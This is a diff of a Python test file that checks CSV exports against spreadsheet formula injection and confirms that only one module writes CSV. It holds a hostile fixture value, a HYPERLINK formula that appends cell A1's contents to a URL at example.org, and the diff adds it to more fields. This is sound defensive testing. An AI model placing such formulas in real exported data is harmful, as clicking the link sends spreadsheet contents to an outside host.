@@ -19,7 +19,7 @@ from api.submissions.manifest import _as_csv
 from deploy.cli import studies_formats, submissions
 from shared.csv_cells import CsvWriter, neutral, plain
 from shared.ids import new_id
-from shared.vocabulary.states import ModelState
+from shared.vocabulary.states import JobState, ModelState
 from tests.requirements import REPOSITORY
 
 HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"see")'
@@ -91,7 +91,7 @@ def of_the_commands_manifest(folder: Path) -> str:
 
 
 MODEL = ModelReference.model_construct(
-    name=HOSTILE, digest="0a" * 32, state=ModelState.ACTIVE, warnings=[HOSTILE], id=new_id()
+    name=HOSTILE, digest="0a" * 32, state=ModelState.ACTIVE, trained_on=HOSTILE, warnings=[HOSTILE], id=new_id()
 )
 
 
@@ -115,7 +115,7 @@ def of_findings(_: Path) -> str:
             other_results=[],
         )
     )
-    study = FindingsAnswer.model_construct(study_id=new_id(), images=[image])
+    study = FindingsAnswer.model_construct(study_id=new_id(), active_model=MODEL, images=[image])
     return "".join(findings_formats.write_csv([study], list))
 
 
@@ -125,7 +125,8 @@ def of_studies(_: Path) -> str:
         study_instance_uid=HOSTILE,
         created_at=datetime.now(UTC),
         image_count=1,
-        state="succeeded",
+        state=JobState.SUCCEEDED,
+        states={JobState.SUCCEEDED: 1},
         problems=[_Fields({"code": HOSTILE})],
         priority=5,
         flags=[HOSTILE],
@@ -157,8 +158,12 @@ def test_only_one_module_writes_csv() -> None:
     for room in ("api", "deploy", "shared", "trainer", "workers"):
         for path in (REPOSITORY / room).rglob("*.py"):
             for node in ast.walk(ast.parse(path.read_text())):
-                is_writer = isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
-                if is_writer and isinstance(node.value, ast.Name) and node.value.id == "csv":
+                if (
+                    isinstance(node, ast.Attribute)
+                    and node.attr in {"writer", "DictWriter"}
+                    and isinstance(node.value, ast.Name)
+                    and node.value.id == "csv"
+                ):
                     found.append(path.relative_to(REPOSITORY).as_posix())
                 if isinstance(node, ast.ImportFrom) and node.module == "csv":
                     found.append(path.relative_to(REPOSITORY).as_posix())
